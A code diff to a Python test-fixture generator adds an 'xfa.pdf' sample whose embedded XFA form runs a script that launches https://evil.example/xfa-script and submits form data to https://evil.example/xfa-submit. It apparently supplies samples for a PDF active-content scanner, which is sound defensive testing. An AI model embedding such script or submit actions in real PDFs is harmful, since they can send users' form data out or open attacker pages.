@@ -283,6 +283,17 @@ def hand_written_samples():
             b"<</Type /Annot /Subtype /Link /Rect [60 300 160 330] /A <</S /Named /N /NextPage /Next <</S /URI /URI (https://evil.example/next)>>>>>>",
         ],
     )
+    form = b"<xdp><template xmlns='http://www.xfa.org/schema/xfa-template/3.3/'><event><script>app.launchURL('https://evil.example/xfa-script')</script></event><event><submit target='https://evil.example/xfa-submit'/></event></template></xdp>"
+    pdf(
+        "xfa.pdf",
+        [
+            b"<</Type /Catalog /Pages 2 0 R /AcroForm <</Fields [] /XFA [(template) 5 0 R]>>>>",
+            b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
+            b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources <<>>>>",
+            b"<</Length 0>>\nstream\n\nendstream",
+            stream(form),
+        ],
+    )
     run("qpdf", "--object-streams=generate", "--compress-streams=y", "--deterministic-id", HERE / "actions.pdf", HERE / "actions-packed.pdf")
     encrypt = lambda name, user: run("qpdf", "--encrypt", user, "owner", "256", "--print=none", "--", "--static-id", "--static-aes-iv", HERE / "actions-packed.pdf", HERE / name)
     encrypt("locked.pdf", "user")
